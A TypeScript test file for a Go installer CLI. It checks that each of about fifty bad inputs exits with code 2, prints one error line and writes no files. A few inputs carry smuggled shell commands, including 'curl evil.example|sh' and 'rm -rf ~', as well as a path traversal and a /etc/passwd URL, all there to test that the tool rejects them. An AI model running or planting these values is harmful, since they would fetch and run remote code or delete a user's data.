// Bad input through the REAL built CLI: every case exits 2 with exactly one line on stderr that names the bad
// value, prints nothing on stdout, and writes nothing — HOME and the XDG dirs stay empty, the working dir unchanged.
import assert from 'node:assert/strict';
import { createHash } from 'node:crypto';
import { mkdirSync, readdirSync, readFileSync, statSync, writeFileSync } from 'node:fs';
import { join } from 'node:path';
import { after, before, describe, it } from 'node:test';
import { createTempHome, type TempHome } from '../helpers/temp-home.js';
import { ensureBuilt, runCli } from './built-cli.js';

// A proxy password that needs every kind of quoting: it must only ever appear as ****.
const PASSWORD = "pa$$ 'w0rd\" x";

interface BadInput {
  name: string;
  args: (work: string) => string[];
  /** Text the error line must contain (the bad value as printed, the flag, what is accepted). */
  names: string[];
  env?: NodeJS.ProcessEnv;
}

const CASES: BadInput[] = [
  { name: 'unknown command', args: () => ['instal'], names: ['"instal"', 'install'] },
  { name: 'unknown flag', args: () => ['install', '--bogus'], names: ['"--bogus"', '--go-version'] },
  { name: 'unknown short flag', args: () => ['plan', '-y'], names: ['"-y"'] },
  { name: 'extra argument', args: () => ['plan', 'now'], names: ['"now"'] },
  { name: 'flag of another command', args: () => ['detect', '--method', 'apt'], names: ['--method', 'detect', '--sysroot'] },
  { name: 'prune takes no --json', args: () => ['prune', '--json'], names: ['--json', 'prune'] },
  { name: 'missing value at the end', args: () => ['install', '--method'], names: ['--method', 'tarball, apt or snap'] },
  { name: 'next flag is not a value', args: () => ['install', '--mirror', '--yes'], names: ['--mirror', 'google-cn'] },
  { name: 'value for a boolean flag', args: () => ['install', '--yes=please'], names: ['--yes', '"please"'] },
  { name: 'repeated flag', args: () => ['install', '--scope', 'user', '--scope=system'], names: ['--scope'] },
  { name: 'unknown method', args: () => ['install', '--method', 'brew'], names: ['--method', '"brew"', 'snap'] },
  { name: 'not a Go version', args: () => ['install', '--go-version', '1.x'], names: ['--go-version', '"1.x"', '1.N.P'] },
  { name: 'Go 2', args: () => ['plan', '--go-version=2.0'], names: ['"2.0"'] },
  { name: 'removing other Go installs in a script for any host', args: () => ['plan', '--other-go', 'remove', '--format', 'sh'], names: ['--format sh', '--other-go remove'] },
  { name: 'removing other Go installs in a playbook', args: () => ['plan', '--other-go', 'remove', '--format', 'ansible'], names: ['--format ansible', '--other-go remove'] },
  { name: 'unknown scope', args: () => ['install', '--scope', 'global'], names: ['--scope', '"global"', 'system or user'] },
  { name: 'relative install dir', args: () => ['install', '--install-dir', 'go'], names: ['--install-dir', '"go"', 'absolute'] },
  { name: 'install dir with a newline', args: () => ['install', '--install-dir', '/opt/go\ntouch /tmp/owned'], names: ['"/opt/go\\ntouch /tmp/owned"'] },
  { name: 'gopath of another user', args: () => ['install', '--gopath', '~root/go'], names: ['--gopath', '"~root/go"'] },
  { name: 'ftp mirror', args: () => ['install', '--mirror', 'ftp://mirror.example/golang/'], names: ['"ftp://mirror.example/golang/"', 'ending in /'] },
  { name: 'mirror URL without the final /', args: () => ['install', '--mirror', 'https://mirror.example/golang'], names: ['"https://mirror.example/golang"'] },
  { name: 'index URL that is a file', args: () => ['versions', '--index-url', 'file:///etc/passwd'], names: ['--index-url', '"file:///etc/passwd"'] },
  { name: 'archive that does not exist', args: (w) => ['install', '--archive', join(w, 'go1.27.1.linux-amd64.tar.gz')], names: ['--archive', 'go1.27.1.linux-amd64.tar.gz"', 'go*.linux-*.tar.gz'] },
  { name: 'archive with the wrong name', args: () => ['install', '--archive', 'notes.txt'], names: ['"notes.txt"', 'go*.linux-*.tar.gz'] },
  { name: 'archive with apt', args: () => ['install', '--archive', 'go1.19.8.linux-amd64.tar.gz', '--method', 'apt'], names: ['"apt"', '--method tarball'] },
  { name: 'short sha256', args: () => ['install', '--sha256', 'abc123'], names: ['--sha256', '"abc123"', '64 hexadecimal'] },
  { name: 'GOPROXY with a command in it', args: () => ['install', '--goproxy', 'https://goproxy.cn;curl evil.example|sh'], names: ['--goproxy', '"https://goproxy.cn;curl evil.example|sh"'] },
  { name: 'GOSUMDB with spaces', args: () => ['install', '--gosumdb', 'sum golang org'], names: ['--gosumdb', '"sum golang org"'] },
  { name: 'GOPRIVATE with a space', args: () => ['install', '--goprivate', 'corp.example .com'], names: ['--goprivate', '"corp.example .com"'] },
  { name: 'ftp proxy with a quoted password', args: () => ['install', '--http-proxy', `ftp://ann:${PASSWORD}@proxy.corp:1080`], names: ['--http-proxy', '"ftp://****@proxy.corp:1080"'] },
  { name: 'proxy URL without a host', args: () => ['install', '--https-proxy', `http://ann:${PASSWORD}@`], names: ['--https-proxy', '****'] },
  { name: 'NO_PROXY with a shell command', args: () => ['install', '--no-proxy', 'localhost;rm -rf ~'], names: ['--no-proxy', '"localhost;rm -rf ~"'] },
  { name: 'unknown shell', args: () => ['install', '--shells', 'bash,tcsh'], names: ['--shells', '"bash,tcsh"', 'fish'] },
  { name: 'unknown plan format', args: () => ['plan', '--format', 'yaml'], names: ['--format', '"yaml"', 'ansible'] },
  { name: 'unknown language', args: () => ['install', '--lang', 'fr'], names: ['--lang', '"fr"', 'en or zh'] },
  { name: 'sysroot that does not exist', args: (w) => ['detect', '--sysroot', join(w, 'no-such-root')], names: ['--sysroot', 'no-such-root"'] },
  { name: 'run id that climbs out', args: () => ['rollback', '--run', '../../etc'], names: ['--run', '"../../etc"'] },
  { name: 'save-config into a missing directory', args: (w) => ['plan', '--save-config', join(w, 'missing', 'answers.json')], names: ['--save-config', 'answers.json"'] },
  { name: 'config file that does not exist', args: () => ['install', '--config', 'absent.json'], names: ['--config', 'absent.json"'] },
  { name: 'config with an unknown key', args: () => ['install', '--config', 'unknown-key.json'], names: ['unknown-key.json', '"goversion"', 'goVersion'] },
  { name: 'config with a wrong type', args: () => ['install', '--config', 'wrong-type.json'], names: ['wrong-type.json', 'goVersion', 'a string', '127'] },
  { name: 'config with bad JSON', args: () => ['install', '--config', 'bad.json'], names: ['bad.json', 'not valid JSON', 'line 2'] },
  { name: 'config that is not an object', args: () => ['plan', '--config', 'list.json'], names: ['list.json', 'JSON object'] },
  { name: 'config with a bad value', args: () => ['install', '--config', 'bad-value.json'], names: ['bad-value.json', 'shells', 'csh'] },
  { name: 'config with a leaking proxy', args: () => ['install', '--config', 'proxy.json'], names: ['proxy.json', 'httpProxy', '****'] },
  { name: 'wizard without a terminal', args: () => ['--go-version', '1.27'], names: ['install --yes'] },
  { name: 'error in Chinese with --lang zh', args: () => ['--lang', 'zh', 'install', '--scope', 'global'], names: ['"global"', '不接受'] },
  { name: 'error in Chinese from LANG', args: () => ['install', '--bogus'], names: ['"--bogus"', '没有选项'], env: { LANG: 'zh_CN.UTF-8' } },
];

/** Every entry below a directory with its content digest, to prove nothing was written. */
function snapshot(dir: string): string[] {
  return readdirSync(dir, { recursive: true, encoding: 'utf8' })
    .sort()
    .map((name) => {
      const path = join(dir, name);
      const stat = statSync(path);
      const digest = stat.isFile() ? createHash('sha256').update(readFileSync(path)).digest('hex') : 'dir';
      return `${name} ${stat.mode.toString(8)} ${digest}`;
    });
}

describe('bad input through the built CLI', { concurrency: 8 }, () => {
  let temp: TempHome;
  let work: string;
  let workBefore: string[];

  before(async () => {
    await ensureBuilt();
    temp = createTempHome();
    work = join(temp.root, 'work');
    mkdirSync(work);
    writeFileSync(join(work, 'notes.txt'), 'not an archive\n');
    writeFileSync(join(work, 'go1.19.8.linux-amd64.tar.gz'), 'a file with an archive name\n');
    writeFileSync(join(work, 'unknown-key.json'), JSON.stringify({ goversion: '1.27' }));
    writeFileSync(join(work, 'wrong-type.json'), JSON.stringify({ goVersion: 127 }));
    writeFileSync(join(work, 'bad.json'), '{\n  "goVersion": "1.27",,\n}\n');
    writeFileSync(join(work, 'list.json'), '["bash"]');
    writeFileSync(join(work, 'bad-value.json'), JSON.stringify({ shells: ['bash', 'csh'] }));
    writeFileSync(join(work, 'proxy.json'), JSON.stringify({ httpProxy: `ftp://ann:${PASSWORD}@proxy.corp:1080` }));
    workBefore = snapshot(work);
  });
  after(() => temp.cleanup());

  it('has at least 25 cases', () => assert.ok(CASES.length >= 25));

  for (const bad of CASES) {
    it(`${bad.name}: exit 2, one line naming it, nothing written`, async () => {
      const args = bad.args(work);
      const result = await runCli(args, { env: { ...temp.env, ...bad.env }, cwd: work });
      const context = `${JSON.stringify(args)} → ${JSON.stringify(result)}`;
      assert.equal(result.code, 2, context);
      assert.equal(result.stdout, '', context);
      assert.match(result.stderr, /^go-setup-wizard: [^\n]+\n$/, context);
      for (const name of bad.names) assert.ok(result.stderr.includes(name), `stderr should contain ${name}: ${context}`);
      for (const secret of ['pa$$', "'w0rd", 'ann:']) assert.ok(!result.stderr.includes(secret), `leaked ${secret}: ${context}`);
      for (const dir of [temp.home, temp.configHome, temp.stateHome, temp.cacheHome, temp.dataHome]) {
        assert.deepEqual(readdirSync(dir), [], `${dir} was written: ${context}`);
      }
      assert.deepEqual(snapshot(work), workBefore, context);
    });
  }
});
